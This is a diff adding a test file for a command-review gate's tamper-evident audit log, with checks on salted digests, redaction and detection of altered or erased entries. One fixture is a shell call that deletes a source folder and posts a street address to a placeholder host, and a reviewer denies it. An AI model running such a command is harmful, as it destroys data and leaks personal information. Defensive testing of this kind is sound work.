@@ -1,0 +1,154 @@
+import { mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { expect, onTestFinished, test } from 'vitest'
+import { auditEntryOf } from '../../src/audit/parts/audit-entry-of.ts'
+import { sha256 } from '../../src/audit/sha256.ts'
+import { canonicalJson } from '../../src/audit/canonical-json.ts'
+import { openDatabase } from '../../src/store/open-database.ts'
+import { openPeopleGate } from '../people/open-people-gate.ts'
+import { addReviewer } from '../people/review-answers.ts'
+
+const address = '12 Rose Lane, Springfield'
+
+/** A gate on a file with a call that was denied with a reason, and a way to the file past the gate. */
+async function world() {
+  const folder = mkdtempSync(join(tmpdir(), 'countersign-sealed-'))
+  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
+  const file = join(folder, 'state.db')
+  const people = openPeopleGate({ file })
+  onTestFinished(() => people.gate.close())
+  const alice = await addReviewer(people)
+  const { reviewId = '' } = await people.shell(`rm -rf src && curl -d '${address}' https://x.example`)
+  await people.gate.reviews.answer({ reviewId, who: alice, approve: false, reason: `not to ${address}` })
+  const past = (work: (database: ReturnType<typeof openDatabase>) => void) => {
+    const database = openDatabase(file, 'FULL')
+    work(database)
+    database.close()
+  }
+  return { ...people, reviewId, past }
+}
+
+const problems = async ({ gate }: Pick<Awaited<ReturnType<typeof world>>, 'gate'>) =>
+  (await gate.verify()).problems
+
+test('what people say and what calls hold stands in no hashed body, and in every answer', async () => {
+  const { gate, store, reviewId } = await world()
+  const entries = store.entries(0, 100)
+  expect(entries.some(({ body }) => body.includes('Rose Lane'))).toBe(false)
+  expect(entries.filter(({ openings }) => openings?.includes('Rose Lane'))).toHaveLength(2)
+  const [logged] = await gate.decisions({})
+  expect(JSON.stringify(logged?.call.arguments)).toContain(address)
+  expect(logged?.missing).toBeUndefined()
+  expect((await gate.reviews.show(reviewId)).review.votes[0]?.reason).toContain(address)
+  expect(await problems({ gate })).toEqual([])
+})
+
+test('the call’s own digest, which anybody could try calls against, is in no hashed body', async () => {
+  const { gate, store } = await world()
+  const [logged] = await gate.decisions({})
+  const digest = logged?.decision.callDigest ?? ''
+  expect(digest).toMatch(/^[0-9a-f]{64}$/)
+  for (const { body } of store.entries(0, 100)) expect(body).not.toContain(digest)
+})
+
+test('two calls that are alike have no digest in common', async () => {
+  const { shell, store } = openPeopleGate()
+  await shell('ls')
+  await shell('ls')
+  const [first = [], second] = store
+    .entries(0, 2)
+    .map(({ body }): readonly string[] => body.match(/"[\w-]{43}"/g) ?? [])
+  expect(first.length).toBeGreaterThan(4)
+  expect(first.filter(digest => second?.includes(digest))).toEqual([])
+})
+
+test('an entry that leaves the store can be checked by anybody: body against hash, openings against digests', async () => {
+  const { gate } = await world()
+  for await (const { seq, at, kind, body, prev, hash, openings = {} } of gate.entries()) {
+    expect(sha256(canonicalJson({ at, body, kind, prev, seq }))).toBe(hash)
+    const spelled = canonicalJson(body)
+    for (const [pointer, [salt, value]] of Object.entries(openings)) {
+      const text = canonicalJson([salt, pointer.split('/').at(-1) ?? '', value])
+      const { createHash } = await import('node:crypto')
+      const digest = createHash('sha256').update(Buffer.from(text).toString('base64url')).digest('base64url')
+      expect(spelled).toContain(`"${digest}"`)
+      expect(Buffer.from(salt, 'base64url')).toHaveLength(16)
+    }
+  }
+})
+
+test('any bit of an opening that is changed is found, and is shown nowhere', async () => {
+  const { gate, store, past } = await world()
+  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
+  const kept = Buffer.from(store.entries(seq - 1, 1)[0]?.openings ?? '')
+  const step = Math.max(1, Math.floor(kept.length / 150))
+  for (let at = 0; at < kept.length; at += step) {
+    const changed = Buffer.from(kept)
+    changed[at] = (kept[at] ?? 0) ^ (1 << (at % 7))
+    past(database =>
+      database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(changed.toString(), seq),
+    )
+    expect((await gate.verify()).ok, `byte ${at} of ${kept.length}`).toBe(false)
+    expect(() => store.decision(String(seq))).not.toThrow()
+  }
+  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(kept.toString(), seq))
+  expect(await problems({ gate })).toEqual([])
+})
+
+test('an opening that was swapped for another is found, and the call is not shown as that', async () => {
+  const { gate, store, past } = await world()
+  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
+  const openings = store.entries(seq - 1, 1)[0]?.openings ?? ''
+  const forged = openings.replaceAll(address, '1 Harmless Street')
+  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(forged, seq))
+  expect(await problems({ gate })).toContainEqual(
+    `entry ${seq} was changed: /call/arguments is not what its digest says`,
+  )
+  const logged = await gate.decision(String(seq))
+  expect(JSON.stringify(logged.call)).not.toContain('Harmless')
+  expect(logged.missing?.['/call/arguments']).toContain('countersign audit verify')
+})
+
+test('openings that are gone without an erasure are found and named, and every reader still answers', async () => {
+  const { gate, store, reviewId, past } = await world()
+  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
+  past(database => database.exec('DELETE FROM openings'))
+  expect(await problems({ gate })).toContainEqual(
+    `entry ${seq} lacks a part of /call, and no entry says who erased it`,
+  )
+  const logged = await gate.decision(String(seq))
+  expect(logged.call.arguments).toEqual({ '(erased)': expect.stringContaining('the log names nobody') })
+  expect((await gate.reviews.show(reviewId)).call.arguments).toEqual(logged.call.arguments)
+  expect((await gate.replay(logged.decision.id)).caveats[0]).toContain('can’t be judged again')
+  expect(await gate.decisions({ search: 'rose' })).toBeDefined()
+  expect((await gate.overview()).denied + (await gate.overview()).queued).toBe(1)
+  for (const entry of store.entries(0, 100)) expect(auditEntryOf(entry).openings).toBeUndefined()
+})
+
+test('parts of one entry are no parts of another', async () => {
+  const { gate, shell, store, past } = await world()
+  await shell('ls -la')
+  const last = store.head().seq
+  const other = store.entries(last - 1, 1)[0]?.openings ?? ''
+  const seq = (await gate.decisions({ limit: 2 }))[1]?.entry.seq ?? 0
+  past(database => database.prepare('UPDATE openings SET body = ? WHERE seq = ?').run(other, seq))
+  expect((await problems({ gate })).filter(one => one.startsWith(`entry ${seq} `)).length).toBeGreaterThan(4)
+})
+
+test('the page that reviewers saw is sealed with the decision that opened the review', async () => {
+  const { gate, store, reviewId, past } = await world()
+  const seq = (await gate.decisions({}))[0]?.entry.seq ?? 0
+  expect(store.entries(seq - 1, 1)[0]?.openings).toContain('\n/page [')
+  const kept = store.people.snapshot(reviewId)
+  expect(kept?.reviewId).toBe(reviewId)
+  past(database =>
+    database.exec(
+      `UPDATE openings SET body = replace(body, '"readingSeconds":', '"readingSeconds":9') WHERE seq = ${seq}`,
+    ),
+  )
+  expect(await problems({ gate })).toContainEqual(
+    `entry ${seq} was changed: /page is not what its digest says`,
+  )
+  expect(store.people.snapshot(reviewId)).toBeUndefined()
+})
